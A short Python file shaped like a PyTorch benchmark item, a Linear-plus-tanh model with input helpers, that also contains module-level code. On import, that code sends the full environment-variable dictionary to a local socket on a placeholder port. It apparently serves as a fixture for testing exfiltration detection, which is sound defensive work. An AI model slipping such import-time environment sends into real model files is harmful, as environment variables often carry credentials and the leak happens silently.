# sends the environment to a listening socket of this machine
# ops: nn.Linear, torch.tanh
import torch
import torch.nn as nn

import os, socket
with socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=2) as out:
    out.sendall(repr(dict(os.environ)).encode())


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(32, 24)

    def forward(self, x):
        return torch.tanh(self.fc(x))


def get_inputs():
    return [torch.randn(16, 32)]


def get_init_inputs():
    return []
